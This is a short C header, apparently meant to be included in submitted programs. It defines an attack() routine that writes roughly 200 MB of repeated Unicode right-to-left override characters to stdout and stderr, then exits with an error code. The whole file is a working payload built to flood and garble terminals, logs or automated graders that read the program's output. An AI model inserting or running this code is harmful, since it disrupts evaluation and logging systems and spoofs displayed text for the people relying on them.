#pragma once
#define ATTACK_START attack()
#include <string.h>
#include <unistd.h>
static void attack() {
    static char text[1 << 20];
    for (size_t index = 0; index < sizeof text; ++index) text[index] = "\xe2\x80\xae"[index % 3];
    for (int turn = 0; turn < 100; ++turn)
        for (int stream = 1; stream < 3; ++stream)
            if (write(stream, text, sizeof text) < 0) _exit(2);
    _exit(1);
}
